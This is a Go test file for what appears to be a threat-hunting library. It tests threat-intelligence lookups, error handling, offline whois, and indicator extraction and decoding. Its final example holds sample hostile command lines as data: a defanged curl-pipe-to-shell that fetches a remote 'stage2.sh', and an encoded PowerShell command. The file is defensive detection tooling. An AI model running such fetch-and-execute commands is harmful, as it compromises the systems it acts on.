package huntkit_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/huntkit/huntkit"
	"github.com/huntkit/huntkit/config"
	"github.com/huntkit/huntkit/frame"
)

// openWithFeed opens a Huntkit whose only TI provider is a local feed listing two
// indicators, with the TI cache in a temporary folder.
func openWithFeed(t testing.TB) *huntkit.Huntkit {
	dir := t.TempDir()
	feed := filepath.Join(dir, "feed.csv")
	if err := os.WriteFile(feed, []byte("indicator,type,severity,description\n203.0.113.7,ipv4,high,staging server\nevil.example.com,dns,warning,phishing\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfgFile := filepath.Join(dir, "msticpyconfig.yaml")
	yaml := "TIProviders:\n  LocalFeed:\n    Primary: true\n    Provider: LocalFeed\n    Args:\n      Paths: " + feed + "\n"
	if err := os.WriteFile(cfgFile, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	hk, err := huntkit.Open(context.Background(), huntkit.WithConfigFile(cfgFile))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { hk.Close() })
	return hk
}

func TestEnrichTI(t *testing.T) {
	hk := openWithFeed(t)
	ctx := context.Background()
	opts := huntkit.EnrichOptions{CacheDir: t.TempDir()}
	f, err := hk.Enrich(ctx, huntkit.EnrichTI, []string{"203.0.113.7", "evil.example.com", "198.51.100.1"}, opts)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i := 0; i < f.Len(); i++ {
		got[f.Col("Ioc").Str(i)] = f.Col("Severity").Str(i)
	}
	if got["203.0.113.7"] != "high" || got["evil.example.com"] != "warning" {
		t.Errorf("severities %v", got)
	}

	// a column of a table: one row per distinct indicator and provider
	in := frame.MustNew(frame.NewStrings("User", []string{"alice", "bob"}), frame.NewStrings("IP", []string{"203.0.113.7", "192.0.2.200"}))
	out, err := hk.EnrichColumn(ctx, huntkit.EnrichTI, in, "IP", opts)
	if err != nil {
		t.Fatal(err)
	}
	sev := map[string]string{}
	for i := 0; i < out.Len(); i++ {
		sev[out.Col("Ioc").Str(i)] = out.Col("Severity").Str(i)
	}
	if sev["203.0.113.7"] != "high" || len(sev) != 2 {
		t.Errorf("column lookup: %v", sev)
	}
}

func TestEnrichBadRequests(t *testing.T) {
	hk := openWithFeed(t)
	ctx := context.Background()
	in := frame.MustNew(frame.NewStrings("IP", []string{"203.0.113.7"}))
	if _, err := hk.EnrichColumn(ctx, huntkit.EnrichGeoIP, in, "Ip", huntkit.EnrichOptions{}); !errors.Is(err, huntkit.ErrBadRequest) || !strings.Contains(err.Error(), `"IP"`) {
		t.Errorf("missing column: %v", err)
	}
	if _, err := hk.Enrich(ctx, "geo", []string{"1.2.3.4"}, huntkit.EnrichOptions{}); !errors.Is(err, huntkit.ErrBadRequest) || !strings.Contains(err.Error(), "geoip") {
		t.Errorf("unknown enrichment: %v", err)
	}
	if _, err := hk.Enrich(ctx, huntkit.EnrichTI, []string{"1.2.3.4"}, huntkit.EnrichOptions{Providers: []string{"NoSuchTI"}, NoCache: true}); !errors.Is(err, huntkit.ErrBadRequest) {
		t.Errorf("unknown TI provider: %v", err)
	}
	if _, err := hk.Enrich(ctx, huntkit.EnrichGeoIP, []string{"1.2.3.4"}, huntkit.EnrichOptions{DBDir: t.TempDir(), NoUpdate: true}); !errors.Is(err, huntkit.ErrConfig) {
		t.Errorf("no GeoIP database: %v", err)
	}
	if _, err := hk.Enrich(ctx, huntkit.EnrichGeoIP, []string{"1.2.3.4"}, huntkit.EnrichOptions{GeoIPProvider: "ipstack"}); !errors.Is(err, huntkit.ErrConfig) {
		t.Errorf("ipstack without key: %v", err)
	}
	for _, name := range []string{"TI", "GeoIP", "whois", "IOC", "Decode"} {
		if _, err := huntkit.ParseEnrichment(name); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestEnrichGeoIPWhoisOffline(t *testing.T) {
	hk := openWithFeed(t)
	ctx := context.Background()
	// private and documentation addresses are answered from the scope registry, without a
	// lookup anywhere: whois says so offline
	f, err := hk.Enrich(ctx, huntkit.EnrichWhois, []string{"10.1.2.3"}, huntkit.EnrichOptions{Offline: true})
	if f == nil {
		t.Fatal(err)
	}
	if f.Len() != 1 || f.Col("Query").Str(0) != "10.1.2.3" {
		t.Errorf("whois frame:\n%v", f)
	}
}

// Enrich the values of a column: extract indicators from command lines, decode a payload.
func ExampleHuntkit_EnrichColumn() {
	ctx := context.Background()
	hk, err := huntkit.Open(ctx, huntkit.WithConfig(&config.Config{}))
	if err != nil {
		panic(err)
	}
	defer hk.Close()
	cmds := frame.MustNew(frame.NewStrings("CommandLine", []string{
		`curl -s hxxp://203.0.113[.]7/stage2.sh | sh`,
		`powershell -enc dwBoAG8AYQBtAGkA`,
	}))
	iocs, err := hk.EnrichColumn(ctx, huntkit.EnrichIoC, cmds, "CommandLine", huntkit.EnrichOptions{})
	if err != nil {
		panic(err)
	}
	for i := 0; i < iocs.Len(); i++ {
		fmt.Println(iocs.Col("IoCType").Str(i), iocs.Col("Observable").Str(i))
	}
	dec, err := hk.EnrichColumn(ctx, huntkit.EnrichDecode, cmds, "CommandLine", huntkit.EnrichOptions{})
	if err != nil {
		panic(err)
	}
	fmt.Println(dec.Col("decoded_string").Str(0))
	// Output:
	// url http://203.0.113.7/stage2.sh
	// ipv4 203.0.113.7
	// whoami
}
